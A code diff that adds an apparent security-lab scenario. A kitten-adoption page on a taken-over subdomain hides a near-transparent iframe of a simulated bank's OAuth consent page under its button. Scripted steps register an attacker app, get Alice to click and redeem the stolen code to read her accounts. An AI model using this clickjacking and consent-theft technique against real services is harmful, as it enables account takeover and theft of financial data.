@@ -1,0 +1,81 @@
+"""A kitten with a button; over the button, unseen, lies another one."""
+
+from urllib.parse import urlsplit
+
+from flask import Flask, Response, render_template_string, request
+
+from labs.chromium import BrowserStage
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+# The frame lies so that “Allow” is over the button: the attacker has measured Bank ID's page in his own browser.
+PAGE = """<!doctype html><html lang="en"><title>Kittens</title>
+<style>
+  body { max-width: 30rem; margin: 2rem auto; padding: 0 1rem; font: 1rem/1.5 system-ui, sans-serif; }
+  .kitten { display: block; width: 12rem; color: #b8651b; }
+  .trap { position: relative; width: 13rem; height: 2.5rem; overflow: hidden; }
+  .trap button { position: absolute; inset: 0; font: inherit; }
+  iframe { position: absolute; left: -119px; top: -564px; width: 700px; height: 1000px; border: 0; opacity: .001; }
+  body:has(#show:checked) iframe { opacity: .75; }
+</style>
+<h1>This kitten has no home</h1>
+<svg class="kitten" viewBox="0 0 100 80" fill="currentColor" role="img" aria-label="A kitten">
+  <path d="M22 8l18 16h20L78 8v34a28 28 0 0 1-56 0z"/><circle cx="40" cy="42" r="4" fill="#fff"/>
+  <circle cx="60" cy="42" r="4" fill="#fff"/><path d="M46 54h8l-4 5z" fill="#fff"/></svg>
+<p class="trap"><button type="button">Adopt the kitten</button>
+<iframe src="{{ framed }}" title="Nothing"></iframe></p>
+<p><label><input type="checkbox" id="show"> Show what lies over the button</label></p></html>"""
+kittens = Flask(__name__)
+HOSTS = {"shop.auth": kittens}  # a subdomain of the bank's that somebody gave up, and somebody else took
+
+
+@kittens.get("/")
+def page() -> Response:
+    """Show a kitten, and frame the request that stands in the address."""
+    here = request.environ["labs.world"].here
+    framed = f"{here.auth}/authorize?{request.query_string.decode()}"
+    answer = Response(render_template_string(PAGE, framed=framed))
+    sources = f"frame-src {here.auth} {here.attacker}; style-src 'unsafe-inline'"
+    answer.headers["Content-Security-Policy"] = f"default-src 'none'; {sources}"
+    return answer
+
+
+@step("Alice", by_hand="{auth}/")
+def alice_signs_in(stage: BrowserStage) -> None:
+    """Sign in at Bank ID as alice, to see which apps have access."""
+    stage.alice.go(f"{stage.here.auth}/").sign_in()
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Register an app, and make a link to a page that frames Bank ID's consent page for it."""
+    redirect_uri = f"{stage.here.attacker}/collect"
+    metadata = {"client_name": "Recipes", "redirect_uris": [redirect_uri], "token_endpoint_auth_method": "none"}
+    answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata | {"scope": "balance:read"})
+    if answer.status_code != 201:
+        raise Stuck("Bank ID registers no app")
+    stage.kept["client_id"] = answer.json()["client_id"]
+    asked = urlsplit(stage.link(stage.kept["client_id"], redirect_uri)).query
+    stage.onward = f"{stage.here.origin('shop.auth')}/?{asked}"
+
+
+@step("Alice")
+def alice_adopts_the_kitten(stage: BrowserStage) -> None:
+    """Open the link, and press the button under the kitten."""
+    tab = stage.alice.go(stage.onward).rest().tab
+    stage.onward = ""
+    button, frame = tab.get_by_role("button", name="Adopt the kitten").bounding_box(), tab.frames[-1]
+    tab.mouse.click(button["x"] + button["width"] / 2, button["y"] + button["height"] / 2)
+    if frame.url.startswith(stage.here.auth):  # the page let itself be framed: the click was for it
+        frame.wait_for_url(f"{stage.here.attacker}/**")
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("no code came to the app")
+    form = {"redirect_uri": f"{stage.here.attacker}/collect", "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id=stage.kept["client_id"], **form)
+    stage.attacker.bank("GET", "/accounts", token)
